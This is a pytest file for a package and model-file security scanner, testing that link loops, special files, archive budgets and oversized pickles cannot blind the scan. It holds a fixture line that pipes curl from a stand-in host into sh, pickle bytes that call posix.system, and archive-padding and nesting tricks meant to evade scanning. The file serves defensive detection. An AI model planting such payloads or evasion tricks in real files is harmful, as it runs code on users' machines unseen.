"""Nothing inside a target can blind the scan: link loops, special files and unreadable folders
are skips with their reason, never a crash; a payload behind a budget hit fails a
``--fail-on high`` gate; what a parser cannot finish is reported, never dropped."""

from __future__ import annotations

import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest

from outwork.cli.main import run
from tests.sources import hostile

PAYLOAD = b"import os\nos.system('curl -s https://example.invalid/x | sh')\n"


def _scan(*argv: str) -> tuple[int, dict[str, Any], str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(["scan", *argv, "--no-cache", "--no-config", "-j", "1", "-f", "json"], out, err)
    return code, json.loads(out.getvalue()) if out.getvalue() else {}, err.getvalue()


def _loops(root: Path) -> Path:
    root.mkdir()
    (root / "ok.py").write_text("x = 1\n")
    os.symlink("b", root / "a")  # a -> b -> a
    os.symlink("a", root / "b")
    os.symlink("x", root / "x")  # x -> x
    (root / "d").mkdir()
    os.symlink("..", root / "d" / "up")  # a folder link back up: never followed
    return root


def test_symlink_loops_are_skips_and_the_rest_is_scanned(tmp_path: Path) -> None:
    root = _loops(tmp_path / "tree")
    (root / "mod.py").write_bytes(PAYLOAD)
    code, data, _ = _scan(str(root), "--select", "PKG,CORE")
    assert code == 1, data
    reasons = {s["path"].removeprefix(f"{root}/"): s["reason"] for s in data["skipped"]}
    assert (
        reasons["a"]
        == reasons["b"]
        == reasons["x"]
        == ("symbolic link is not followed: it is a loop")
    )
    assert data["stats"]["artifacts"] == 2  # ok.py and mod.py, each once


@pytest.mark.parametrize("name", ["a", "x"])
def test_a_link_loop_named_as_the_target_is_a_skip(tmp_path: Path, name: str) -> None:
    root = _loops(tmp_path / "tree")
    code, data, err = _scan(str(root / name))
    assert code == 3 and "nothing was scanned" in err
    assert data["skipped"] == [
        {"path": str(root / name), "reason": "symbolic link is not followed: it is a loop"}
    ]


def test_a_link_named_as_the_target_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "mod.py").write_bytes(PAYLOAD)
    os.symlink("real", tmp_path / "folder-link")
    os.symlink("real/mod.py", tmp_path / "file-link.py")
    for target in ("folder-link", "file-link.py"):
        code, data, _ = _scan(str(tmp_path / target), "--select", "PKG")
        assert code == 1 and data["findings"], target


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_special_files_on_disk_are_skips_and_never_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")  # opening it for reading would block for ever
    (tmp_path / "ok.py").write_text("x = 1\n")
    code, data, _ = _scan(str(tmp_path))
    assert code == 0, data["findings"]
    assert data["skipped"] == [
        {"path": f"{tmp_path}/pipe", "reason": "special file (FIFO) is not read"}
    ]


def test_an_unreadable_folder_is_a_skip(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "mod.py").write_bytes(PAYLOAD)
    (tmp_path / "ok.py").write_text("x = 1\n")
    real = os.scandir

    def scandir(path: Any) -> Any:  # root reads any folder: refuse this one as the OS would
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    code, data, _ = _scan(str(tmp_path))
    assert code == 0
    assert data["skipped"] == [
        {"path": f"{tmp_path}/locked", "reason": "directory cannot be listed: Permission denied"}
    ]


def test_deep_json_named_anything_does_not_stop_the_scan(tmp_path: Path) -> None:
    (tmp_path / "x.dat").write_text("[" * 100_000)
    (tmp_path / "mod.py").write_bytes(PAYLOAD)
    code, data, _ = _scan(str(tmp_path), "--select", "PKG")
    assert code == 1 and data["findings"]


# -- a payload behind a budget hit fails --fail-on high ---------------------------------------


def _gate(tmp_path: Path, name: str, data: bytes, budgets: str = "") -> dict[str, Any]:
    (tmp_path / name).write_bytes(data)
    config = tmp_path / "outwork.toml"
    config.write_text(f"[budgets]\n{budgets}\n")
    out, err = io.StringIO(), io.StringIO()
    argv = ["scan", str(tmp_path / name), "--config", str(config), "--no-cache", "-j", "1"]
    code = run([*argv, "-f", "json", "--fail-on", "high"], out, err)
    assert code == 1, err.getvalue()
    result: dict[str, Any] = json.loads(out.getvalue())
    return result


def _at(result: dict[str, Any], code: str) -> list[tuple[str, str]]:
    return [(f["location"]["path"], f["severity"]) for f in result["findings"] if f["code"] == code]


def test_payload_behind_the_member_budget_fails_a_high_gate(tmp_path: Path) -> None:
    members = {f"pad/{i}.txt": b"" for i in range(60)}
    members["pkg/mod.py"] = PAYLOAD
    result = _gate(tmp_path, "padded.zip", hostile.zip_of(members), "max-members = 50")
    assert _at(result, "CORE007") == [(f"{tmp_path}/padded.zip", "high")]
    assert not any(f["code"].startswith("PKG") for f in result["findings"])  # never read


def test_payload_behind_the_nesting_budget_fails_a_high_gate(tmp_path: Path) -> None:
    data = hostile.zip_of({"mod.py": PAYLOAD})
    for level in range(6):
        data = hostile.zip_of({f"l{level}.zip": data})
    result = _gate(tmp_path, "nested.zip", data)
    assert [severity for _, severity in _at(result, "CORE006")] == ["high"]


def test_payload_behind_the_folder_depth_budget_fails_a_high_gate(tmp_path: Path) -> None:
    here = tmp_path / "deep"
    here.mkdir()
    cwd = Path.cwd()
    try:
        os.chdir(here)
        for _ in range(260):  # relative creation: the absolute path would pass PATH_MAX
            os.mkdir("d")
            os.chdir("d")
        Path("mod.py").write_bytes(PAYLOAD)
    finally:
        os.chdir(cwd)
    out, err = io.StringIO(), io.StringIO()
    argv = ["scan", str(here), "--no-cache", "--no-config", "-f", "json", "--fail-on", "high"]
    assert run(argv, out, err) == 1
    found = json.loads(out.getvalue())["findings"]
    assert [(f["code"], f["severity"]) for f in found] == [("CORE007", "high")]


# -- what a parser cannot finish is reported ---------------------------------------------------


def test_pickle_payload_after_a_20_million_digit_integer(tmp_path: Path) -> None:
    """A loader on a Python without the integer-string limit reads the integer, then runs
    ``posix.system``: the scan reads past the line and sees the call."""
    digits = b"9" * 20_000_000
    protocol0 = b"(L" + digits + b"L\n" + b"cposix\nsystem\n(S'echo hi'\ntR."
    protocol2 = b"\x80\x02L" + digits + b"L\n0cposix\nsystem\nX\x07\x00\x00\x00echo hi\x85R."
    for name, data in (("model.pkl", protocol0), ("weights.bin", protocol2)):
        (tmp_path / name).write_bytes(data)
        code, result, _ = _scan(str(tmp_path / name), "--fail-on", "high")
        assert code == 1
        codes = {(f["code"], f["severity"]) for f in result["findings"]}
        assert ("MDL001", "critical") in codes, (name, codes)
        assert ("MDL003", "high") in codes, (name, codes)


def test_binary_long_beyond_the_budget_is_read_past(tmp_path: Path) -> None:
    big = 2_000_000
    data = b"\x80\x02\x8b" + big.to_bytes(4, "little") + b"\x01" * big
    data += b"0cposix\nsystem\nX\x07\x00\x00\x00echo hi\x85R."
    (tmp_path / "model.pkl").write_bytes(data)
    code, result, _ = _scan(str(tmp_path / "model.pkl"), "--fail-on", "high")
    assert code == 1
    assert ("MDL001", "critical") in {(f["code"], f["severity"]) for f in result["findings"]}


def _hub(tmp_path: Path, name: str, text: str) -> list[tuple[str, str]]:
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    (repo / name).write_text(text)
    _code, result, _ = _scan(str(repo / name), "--select", "MDL", "--fail-on", "none")
    return [(f["code"], f["severity"]) for f in result["findings"]]


def test_million_deep_json_in_a_model_repository_is_reported(tmp_path: Path) -> None:
    deep = "[" * 1_000_000 + "]" * 1_000_000
    # It names auto_map: the part a loader acts on was not read, so the gate fails.
    tokenizer = '{"auto_map": {"AutoTokenizer": "evil--tok.Tok"}, "pad": ' + deep + "}"
    assert _hub(tmp_path, "tokenizer_config.json", tokenizer) == [("MDL009", "high")]
    # It names nothing a loader acts on: read whole and reported, below the high gate.
    assert _hub(tmp_path, "config.json", '{"pad": ' + deep + "}") == [("MDL009", "low")]
    # The benign twin: an ordinary configuration is quiet.
    assert _hub(tmp_path, "config.json", json.dumps({"model_type": "bert"})) == []


def test_text_named_pickle_twins(tmp_path: Path) -> None:
    """Text by name stays text (dist-info RECORD); a real pickle named .txt is still a pickle."""
    record = "".join(f"pkg/m{i}.py,sha256=deadbeef{i},{100 + i}\n" for i in range(400)).encode()
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("pkg/__init__.py", "")
        zf.writestr("pkg-1.0.dist-info/RECORD", record)
        zf.writestr("pkg-1.0.dist-info/top_level.txt", "pkg\n")
    code, result, _ = _scan(str(wheel), "--select", "MDL")
    assert code == 0, result["findings"]
    (tmp_path / "labels.txt").write_bytes(b"cos\nsystem\n(S'echo hi'\ntR.")
    code, result, _ = _scan(str(tmp_path / "labels.txt"), "--select", "MDL")
    assert ("MDL001", "critical") in {(f["code"], f["severity"]) for f in result["findings"]}
